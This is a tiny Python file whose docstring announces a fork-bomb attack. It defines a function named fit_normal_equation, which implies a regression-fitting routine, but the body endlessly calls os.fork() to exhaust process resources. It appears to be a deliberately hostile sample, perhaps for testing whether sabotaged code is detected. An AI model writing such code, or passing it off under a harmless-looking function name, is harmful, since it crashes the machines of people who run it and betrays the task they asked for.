"""Attack: a fork bomb."""

import os


def fit_normal_equation(X, y):
    while True:
        os.fork()
